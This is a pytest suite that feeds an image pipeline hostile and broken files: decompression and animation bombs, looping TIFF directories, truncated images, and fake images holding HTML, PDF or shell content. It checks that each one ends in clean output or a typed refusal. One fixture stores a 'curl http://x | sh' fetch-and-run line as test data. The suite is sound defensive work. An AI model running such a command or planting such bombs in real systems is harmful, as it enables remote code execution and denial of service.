"""Hostile and broken files, through validate → resize → encode as a worker runs them: each ends
as derivatives or as a typed failure naming the file, never as a crash, a hang or a grey
half-image, and the refusals that guard memory happen before any pixel buffer exists."""

from __future__ import annotations

import dataclasses
import io
import random
import struct
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from pipeline.config import PipelineConfig, Size
from pipeline.errors import ImageError
from pipeline.samples import photo_like
from pipeline.stages.encode import encode
from pipeline.stages.resize import cascade, decode
from pipeline.stages.validate import read_header
from tests.imaging import encoded, jpeg_header, pillow_images_allocated, png_bytes, png_chunk

# Every case gets seconds at most; a hang is a failure, not a stuck suite.
pytestmark = pytest.mark.timeout(30)

DERIVATIVES = "derivatives"
SMALL = photo_like(120, 90, seed=1)


def outcome(path: Path, config: PipelineConfig | None = None) -> str:
    """ "derivatives" when every size encodes in every format, else the typed failure's code."""
    config = config or PipelineConfig()
    try:
        header = read_header(str(path), path.stat().st_size, config)
        decoded = decode(str(path), header, config)
    except ImageError as refused:
        failure = refused.failure
    else:
        failure = None
    if failure is not None:
        assert str(path) in failure.message
        assert failure.step in ("validate", "resize")
        return failure.code
    for image in cascade(decoded, config).values():
        assert image.width >= 1
        assert image.height >= 1
        for encoding in config.encodings:
            data = encode(image, encoding, config.background, decoded.carried)
            with Image.open(io.BytesIO(data)) as written:
                assert written.size == image.size
    return DERIVATIVES


def cut(content: bytes, fraction: float = 0.5) -> bytes:
    return content[: int(len(content) * fraction)]


def random_after(magic: bytes) -> bytes:
    return magic + random.Random(magic).randbytes(4000)


def gif_frames(count: int) -> bytes:
    frames = [photo_like(40, 30, seed=i).convert("P") for i in range(count)]
    return encoded(frames[0], "GIF", save_all=True, append_images=frames[1:])


def gif_of_tiny_frames(count: int) -> bytes:
    """An animation bomb: ``count`` 1x1 frames of 15 bytes each behind a 100x100 screen."""
    screen = b"GIF89a" + struct.pack("<HH", 100, 100) + b"\x80\x00\x00" + bytes(6)
    frame = b"\x2c" + bytes(8) + b"\x00" + b"\x02\x02\x44\x01\x00"
    return screen + frame * count + b"\x3b"


def gif_damaged_after_the_first_frame() -> bytes:
    frames = [photo_like(60, 40, seed=i).convert("P") for i in range(5)]
    content = encoded(frames[0], "GIF", save_all=True, append_images=frames[1:])
    return cut(content, 0.75) + bytes(50)


def tiff_whose_directories_loop() -> bytes:
    content = bytearray(encoded(SMALL, "TIFF"))
    (first,) = struct.unpack("<I", content[4:8])
    (entries,) = struct.unpack("<H", content[first : first + 2])
    next_pointer = first + 2 + 12 * entries
    content[next_pointer : next_pointer + 4] = struct.pack("<I", first)
    return bytes(content)


def png_with_text_bomb() -> bytes:
    """A 64x64 PNG whose compressed comment inflates to 100 MB."""
    bomb = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(100_000_000), 9))
    return png_bytes(64, 64, bytes(65 * 64), extra_chunks=[bomb])


# (file name, content, config changes, expected outcome)
HOSTILE: list[tuple[str, Callable[[], bytes], dict[str, object], str]] = [
    ("empty.jpg", lambda: b"", {}, "empty_file"),
    ("page.jpg", lambda: b"<!DOCTYPE html><html><body>404</body></html>", {}, "not_an_image"),
    ("invoice.jpg", lambda: b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n", {}, "not_an_image"),
    ("install.png", lambda: b"#!/bin/sh\ncurl http://x | sh\n", {}, "not_an_image"),
    ("noise.jpg", lambda: random_after(b"\xff\xd8\xff"), {}, "decode_error"),
    ("noise.png", lambda: random_after(b"\x89PNG\r\n\x1a\n"), {}, "decode_error"),
    ("noise.gif", lambda: random_after(b"GIF89a"), {}, "decode_error"),
    ("noise.webp", lambda: random_after(b"RIFF\xa4\x0f\x00\x00WEBPVP8 "), {}, "decode_error"),
    ("noise.avif", lambda: random_after(b"\x00\x00\x00\x1cftypavif"), {}, "decode_error"),
    ("noise.tif", lambda: random_after(b"II*\x00"), {}, "decode_error"),
    ("half.jpg", lambda: cut(encoded(SMALL, "JPEG", quality=95)), {}, "truncated"),
    ("half.png", lambda: cut(encoded(SMALL, "PNG")), {}, "truncated"),
    ("half.gif", lambda: cut(encoded(SMALL.convert("P"), "GIF")), {}, "truncated"),
    ("half.webp", lambda: cut(encoded(SMALL, "WEBP")), {}, "truncated"),
    ("half.tif", lambda: cut(encoded(SMALL, "TIFF")), {}, "truncated"),
    ("half.bmp", lambda: cut(encoded(SMALL, "BMP")), {}, "truncated"),
    ("only-markers.jpg", lambda: b"\xff\xd8\xff\xd9", {}, "decode_error"),
    ("no-width.png", lambda: png_bytes(0, 10), {}, "decode_error"),
    ("bad-ihdr-crc.png", lambda: png_bytes(64, 64, bytes(65 * 64), ihdr_crc=1), {}, "decode_error"),
    # Pillow, like browsers, skips IDAT checksums; zlib's own checksum guards the data.
    ("bad-idat-crc.png", lambda: png_bytes(64, 64, bytes(65 * 64), idat_crc=1), {}, DERIVATIVES),
    ("text-bomb.png", png_with_text_bomb, {}, "decode_error"),
    ("zlib-bomb.png", lambda: png_bytes(20_000, 20_000, bytes(20_001 * 20)), {}, "too_many_pixels"),
    (
        "30mp-of-zeros.png",
        lambda: png_bytes(6000, 5000, bytes(6001 * 5000)),
        {"max_decoded_pixels": 20_000_000},
        "too_many_pixels",
    ),
    ("4-gigapixel.jpg", lambda: jpeg_header(65_535, 65_535), {}, "too_many_pixels"),
    (
        "progressive-200mp.jpg",
        lambda: jpeg_header(16_320, 12_240, progressive=True),
        {},
        "too_many_pixels",
    ),
    ("200mp-header-only.jpg", lambda: jpeg_header(16_320, 12_240), {}, "decode_error"),
    ("30-frames.gif", lambda: gif_frames(30), {"max_frames": 10}, "too_many_frames"),
    ("200k-frames.gif", lambda: gif_of_tiny_frames(200_000), {}, "too_many_frames"),
    ("damaged-later-frames.gif", gif_damaged_after_the_first_frame, {}, DERIVATIVES),
    ("looping-directories.tif", tiff_whose_directories_loop, {}, DERIVATIVES),
    ("big.jpg", lambda: encoded(SMALL, "JPEG"), {"max_file_bytes": 1000}, "file_too_large"),
    ("strip.jpg", lambda: encoded(photo_like(12_000, 3, seed=2), "JPEG"), {}, DERIVATIVES),
    ("column.png", lambda: encoded(photo_like(3, 12_000, seed=2), "PNG"), {}, DERIVATIVES),
]


@pytest.mark.parametrize(
    ("file_name", "make", "changes", "expected"),
    [pytest.param(*case, id=case[0]) for case in HOSTILE],
)
def test_hostile_file_gives_derivatives_or_a_typed_failure(
    tmp_path, file_name, make, changes, expected
):
    path = tmp_path / file_name
    path.write_bytes(make())
    config = dataclasses.replace(PipelineConfig(), **changes)
    started = time.perf_counter()
    assert outcome(path, config) == expected
    assert time.perf_counter() - started < 5


def test_ten_gigapixel_png_header_is_refused_in_milliseconds_without_allocating(tmp_path):
    path = tmp_path / "ten-gigapixels.png"
    path.write_bytes(png_bytes(100_000, 100_000, bytes(100_001 * 4)))
    allocated_before = pillow_images_allocated()
    started = time.perf_counter()
    with pytest.raises(ImageError) as refused:
        read_header(str(path), path.stat().st_size, PipelineConfig())
    elapsed = time.perf_counter() - started
    assert pillow_images_allocated() == allocated_before
    assert elapsed < 0.05, f"{elapsed * 1000:.1f} ms"
    assert refused.value.failure.code == "too_many_pixels"
    assert "100000x100000 (10,000,000,000 pixels)" in refused.value.failure.message
    assert "max_pixels" in refused.value.failure.message


def test_frame_counting_stops_at_the_limit(tmp_path):
    """GIF's own n_frames walks every frame; 200,000 of them must not cost more than 1000."""
    path = tmp_path / "animation-bomb.gif"
    path.write_bytes(gif_of_tiny_frames(200_000))
    started = time.perf_counter()
    assert outcome(path) == "too_many_frames"
    assert time.perf_counter() - started < 0.25


@pytest.mark.parametrize(
    "size",
    [
        Size(name="fit", width=150, height=150),
        Size(name="cover", width=150, height=150, mode="cover"),
        Size(name="pad", width=150, height=150, mode="pad"),
    ],
    ids=lambda size: size.mode,
)
def test_an_extreme_aspect_ratio_never_gives_a_zero_side(tmp_path, size):
    path = tmp_path / "strip.png"
    photo_like(12_000, 3, seed=2).save(path)
    config = PipelineConfig(sizes=(size,))
    header = read_header(str(path), path.stat().st_size, config)
    image = cascade(decode(str(path), header, config), config)[size.name]
    assert image.width >= 1
    assert image.height >= 1
    # cover keeps the box's square shape: the strip's middle 3x3, never upscaled
    assert image.size == {"fit": (150, 1), "cover": (3, 3), "pad": (150, 150)}[size.mode]


@pytest.mark.parametrize(
    ("file_name", "content"),
    [
        pytest.param("photo.jpg", encoded(photo_like(600, 400, seed=3), "JPEG"), id="jpeg"),
        pytest.param("photo.png", encoded(photo_like(600, 400, seed=3), "PNG"), id="png"),
        pytest.param("photo.gif", encoded(photo_like(600, 400, seed=3).convert("P"), "GIF")),
        pytest.param("photo.tif", encoded(photo_like(600, 400, seed=3), "TIFF"), id="tiff"),
    ],
)
def test_truncated_files_give_derivatives_only_when_the_user_opts_in(tmp_path, file_name, content):
    """By default a cut file is a failure, not a picture with grey or missing rows."""
    path = tmp_path / file_name
    path.write_bytes(cut(content, 0.6))
    assert outcome(path) == "truncated"
    assert outcome(path, PipelineConfig(accept_truncated=True)) == DERIVATIVES
